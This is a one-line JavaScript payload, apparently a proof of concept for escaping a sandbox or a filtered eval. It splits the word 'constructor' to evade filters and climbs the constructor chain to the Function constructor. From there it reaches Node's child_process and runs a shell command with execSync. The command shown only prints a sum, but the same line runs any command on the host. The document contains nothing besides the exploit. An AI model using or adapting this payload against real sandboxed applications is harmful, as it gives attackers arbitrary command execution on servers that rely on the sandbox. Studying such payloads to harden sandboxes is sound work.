const k=process.argv0.slice(9)+'const'+'ructor'; ''[k][k]('process.mainModule.require("child_process").execSync("expr 40 + 1001",{stdio:"inherit"})')();
